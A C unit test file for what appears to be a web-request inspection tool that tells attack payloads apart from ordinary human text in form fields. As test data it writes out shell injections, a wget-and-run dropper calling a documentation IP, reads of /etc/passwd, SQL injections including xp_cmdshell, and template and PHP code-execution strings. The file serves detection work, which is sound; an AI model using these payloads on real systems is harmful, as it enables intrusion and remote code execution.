/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What people write about code, and attacks that look like it: the first leaves nothing that makes a record, the second does. */
#include "control/extract/extract.h"
#include "control/extract/writing.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

/* A code of a form's field that is enough for a record by itself: of this language if there is one; LANGUAGE_COUNT: none. */
static enum language loud(const char *name, const char *value, enum language wanted)
{
	struct extraction *e = NULL;
	enum language found = LANGUAGE_COUNT;
	char request[8192];
	size_t len = (size_t)snprintf(request, sizeof(request), "POST /f HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n%s=", name);

	for (const char *c = value; *c != '\0'; c++)
		len += (size_t)snprintf(request + len, sizeof(request) - len, "%%%02x", (unsigned char)*c);
	assert_int_equal(extract_bytes(bytes_of((const uint8_t *)request, len), &e), 0);
	for (unsigned i = 0; i < e->count && found != wanted; i++)
		if (!e->codes[i].quiet)
			found = e->codes[i].language;
	extraction_free(e);
	return found;
}

struct pair {
	const char *name;
	const char *written;     /* by people */
	const char *attack;      /* alike */
	enum language language;  /* the attack's */
};

static void expect(const struct pair *pairs, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		enum language written = loud(pairs[i].name, pairs[i].written, pairs[i].language),
			attack = loud(pairs[i].name, pairs[i].attack, pairs[i].language);

		if (written != LANGUAGE_COUNT)
			fail_msg("taken for %s: %s", language_name(written), pairs[i].written);
		if (attack != pairs[i].language)
			fail_msg("%s instead of %s: %s", attack == LANGUAGE_COUNT ? "nothing" : language_name(attack), language_name(pairs[i].language),
			         pairs[i].attack);
	}
}

static void sentences_around_a_command_make_it_a_text(void **state)
{
	static const struct pair pairs[] = {
		{ "note", "it was broken until we ran \"make clean && rm -rf build\" and then it went on as it should have", "build && rm -rf /tmp/build", LANGUAGE_SHELL },
		{ "note", "* the page said that the file was gone\n* we did ; cat /etc/hostname\n* and nothing came of it", "the page; cat /etc/hostname", LANGUAGE_SHELL },
		{ "note", "for those who write templates: what stands in {{ 7*7 }} is always computed by the server itself", "hello {{ 7*7 }}", LANGUAGE_TEMPLATE },
		{ "note", "host CRON[7]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)", "host CRON; (cd / && run-parts --report /etc/cron.hourly)", LANGUAGE_SHELL },
		{ "note", "Type ``false`` there", "x`false`", LANGUAGE_SHELL },
	};

	(void)state;
	expect(pairs, COUNT_OF(pairs));
	/* commands one below the other, and in a row, are no sentences */
	assert_int_equal(loud("note", "x;cd /tmp || cd /var/run; wget http://198.51.100.9/a; chmod 777 a; sh a; rm -f a", LANGUAGE_SHELL), LANGUAGE_SHELL);
	assert_int_equal(loud("note", "x\ncd /tmp\nwget http://198.51.100.9/a\nwhile true\ndo\nsh a\nsleep 9\ndone", LANGUAGE_SHELL), LANGUAGE_SHELL);
}

static void a_piece_of_a_listing_is_no_code(void **state)
{
	static const struct pair pairs[] = {
		{ "note", "    import os\n    os.system('ls')\n    return os.getcwd()", "import os\nos.system('ls')\nprint(os.getcwd())", LANGUAGE_PYTHON },
		{ "note", "sub color {\n    my ($self) = @_;\n    return $ENV{'COLOR'} || 'green';\n}", "print $ENV{'PATH'};", LANGUAGE_PERL },
		{ "note", "#!/bin/sh\nset -e\nupdate-rc.d x start", "x\ncat /etc/passwd; id", LANGUAGE_SHELL },
		{ "note", "if command -v py3compile >/dev/null 2>&1; then\n\tpy3compile -p x || true\nfi", "x\nid >/dev/null; cat /etc/passwd", LANGUAGE_SHELL },
		{ "note", "use strict;\nuse Socket;", "use Socket;\nprint qx(id);", LANGUAGE_PERL },
		{ "note", "  cd /etc/fonts && \\\n    rm -f 70.conf", "x\nrm -f 70.conf", LANGUAGE_SHELL },
		{ "note", "foreach my $x (map { $_ => system('x') } @a) {\n  next;\n", "{system('id')}", LANGUAGE_TEMPLATE },
	};

	(void)state;
	expect(pairs, COUNT_OF(pairs));
	/* where commands are what is asked for, and files are put, they are what they are */
	assert_int_equal(loud("cmd", "  cd /etc/fonts && \\\n    rm -f 70.conf", LANGUAGE_SHELL), LANGUAGE_SHELL);
}

static void a_whole_page_or_document_leaves_nothing(void **state)
{
	static const struct pair pairs[] = {
		{ "note", "<html><head>\n<title>x</title>\n<script>init(document.body)</script>\n</head><body>x</body></html>",
		  "</title>\n<script>init(document.body)</script>\n", LANGUAGE_HTML },
		{ "note", "<?xml version=\"1.0\"?>\n<!DOCTYPE fonts SYSTEM \"../fonts.dtd\">\n<fonts/>",
		  "<?xml version=\"1.0\"?>\n<!DOCTYPE fonts SYSTEM \"../../etc/fonts.dtd\">\n<fonts/>", LANGUAGE_XML },
	};

	(void)state;
	expect(pairs, COUNT_OF(pairs));
}

static void words_in_quotes_are_no_query(void **state)
{
	static const struct pair pairs[] = {
		{ "note", "'skip' and 'replace' as it was", "'or'1'='1", LANGUAGE_SQL },
		{ "note", "\"%\" before, and \"%\" behind it", "\" and \"1\"=\"1", LANGUAGE_SQL },
		{ "note", "use on sys.path_hook", "1 union select 1 from sys.objects", LANGUAGE_SQL },
		{ "note", "with a picture ...\" -->", "x\" or 1=1 -- ", LANGUAGE_SQL },
		{ "note", "Profile drop table!", "1; drop table users", LANGUAGE_SQL },
		{ "note", "write to exec@find.example and bob", "1; exec master..xp_cmdshell 'dir'", LANGUAGE_SQL },
		{ "q", "SELECT name FROM users", "1 union select name,2 from users", LANGUAGE_SQL },
		{ "q", "05)", "05) or (1=1", LANGUAGE_SQL },
		{ "q", "cherry-pick\" and \"git", "x\" and \"a\"=\"a", LANGUAGE_SQL },
		{ "q", "'/').", "'", LANGUAGE_SQL },
	};

	(void)state;
	expect(pairs, COUNT_OF(pairs));
}

static void what_is_searched_for_is_asked_about(void **state)
{
	static const struct pair pairs[] = {
		{ "q", "document.write('x');", "';document.write('x');//", LANGUAGE_HTML },
		{ "q", "highlight \"<?php\" as a symbol", "<?php system('id');?>", LANGUAGE_PHP },
		{ "q", "ftp://ftp.example.org/a.tar.gz", "ftp://127.0.0.1/a.tar.gz", LANGUAGE_URL },
		{ "q", "see `apt changelog jq`.", "x`cat /etc/passwd`", LANGUAGE_SHELL },
		{ "q", "a-&gt;size;", "a;size -x", LANGUAGE_SHELL },
		{ "note", "systemd.unit(5), systemd.exec(5), and systemd.kill(5)", "x.getClass().forName('java.lang.Runtime').exec('id')", LANGUAGE_TEMPLATE },
	};

	(void)state;
	expect(pairs, COUNT_OF(pairs));
}

static void quotes_are_peoples_where_they_stand_so(void **state)
{
	bool said = false;

	(void)state;
	assert_true(writing_quotes(bytes_text("a 'b' c"), '\'', &said) && said);
	assert_true(writing_quotes(bytes_text("'b'"), '\'', &said) && !said);
	assert_false(writing_quotes(bytes_text("' or 'a'='a"), '\'', &said));
	assert_false(writing_quotes(bytes_text("it's"), '\'', &said));
	assert_int_equal(writing_words(bytes_text("this is a sentence, as people say.")), 7);
	assert_int_equal(writing_words(bytes_text("cat a; id; rm b\nls\nps\nid")), 0);
	assert_true(writing_is_excerpt(bytes_text("}\nelse {"), false));
	assert_false(writing_is_excerpt(bytes_text("for x in y:\n  print(x)"), false));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(sentences_around_a_command_make_it_a_text),
		cmocka_unit_test(a_piece_of_a_listing_is_no_code),
		cmocka_unit_test(a_whole_page_or_document_leaves_nothing),
		cmocka_unit_test(words_in_quotes_are_no_query),
		cmocka_unit_test(what_is_searched_for_is_asked_about),
		cmocka_unit_test(quotes_are_peoples_where_they_stand_so),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
